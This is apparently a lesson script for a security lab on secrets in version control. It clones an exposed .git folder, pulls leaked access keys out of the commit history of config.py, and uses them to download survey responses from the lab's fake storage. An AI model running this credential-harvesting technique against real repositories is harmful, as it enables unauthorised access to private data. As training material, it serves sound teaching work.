"""Lesson "Secrets in version control": use the key found in the history to
read the team's (fake) cloud storage.

Run:  python leaked_key.py   (needs git on the PATH)
"""

import re
import subprocess
import sys
import tempfile

import requests

HTTP = "{{http}}"


def leaked_key() -> tuple[str, str]:
    """The key id and secret from the old config.py, via a clone."""
    folder = tempfile.mkdtemp(prefix="survey-dashboard-")
    subprocess.run(
        ["git", "clone", "-q", f"{HTTP}/lab/insecure/secrets/.git", folder], check=True
    )
    history = subprocess.run(
        ["git", "-C", folder, "log", "-p", "--", "config.py"],
        check=True, capture_output=True, text=True,
    ).stdout
    key_id = re.search(r'ACCESS_KEY_ID = "(\w+)"', history)
    secret = re.search(r'SECRET_ACCESS_KEY = "([\w/+]+)"', history)
    if not key_id or not secret:
        sys.exit("no key in the history of config.py")
    return key_id.group(1), secret.group(1)


def main() -> None:
    key = leaked_key()
    answer = requests.get(
        f"{HTTP}/lab/storage/survey-responses/responses.csv", auth=key, timeout=10
    )
    print(answer.status_code)
    print(answer.text)
    if answer.status_code != 200:
        sys.exit("the storage refused the leaked key (was it rotated already?)")


if __name__ == "__main__":
    main()
